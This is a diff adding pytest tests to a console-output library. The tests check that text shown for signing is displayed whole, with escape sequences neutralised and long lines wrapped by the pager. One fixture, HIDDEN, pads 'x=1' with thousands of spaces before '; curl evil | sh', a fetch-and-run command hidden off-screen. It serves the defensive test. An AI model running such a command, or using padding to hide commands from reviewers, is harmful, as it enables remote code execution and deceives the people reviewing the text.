@@ -12,8 +12,10 @@ from hypothesis import strategies as st
 from farhand_console.output import (
     json_bytes,
     line,
+    page_through,
     printable,
     say,
+    say_whole,
     show_fields,
     show_json,
     show_table,
@@ -50,6 +52,25 @@ def test_json_says_the_same_and_shows_nothing_raw(text: str) -> None:
     written = json_bytes({"name": text}).decode()
     assert is_safe(written)
     assert json.loads(written) == {"name": text}
+
+
+HIDDEN = "x=1" + " " * 4100 + "; curl evil | sh"
+
+
+def test_what_is_signed_is_shown_whole(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    say_whole(f"{HIDDEN}\n\x1b[2Jb\u2028c\n")
+    first, second = capsys.readouterr().err.splitlines()
+    assert (first, second) == (HIDDEN, "\\x1b[2Jb\\u2028c")
+    shown: list[str] = []
+    monkeypatch.setattr("farhand_console.output.click.echo_via_pager", shown.extend)
+    monkeypatch.setenv("COLUMNS", "80")
+    page_through(f"\n{HIDDEN}\r\nlast")
+    assert all(len(one) <= 81 for one in shown), "no pager cuts off what fits the screen"
+    assert (shown[0], shown[-1]) == ("\n", "last\n")
+    parts = [one.removesuffix("\n").removeprefix("  ~ ") for one in shown[1:-1]]
+    assert "".join(parts) == HIDDEN
 
 
 def test_every_way_out_escapes(capsys: pytest.CaptureFixture[str]) -> None:
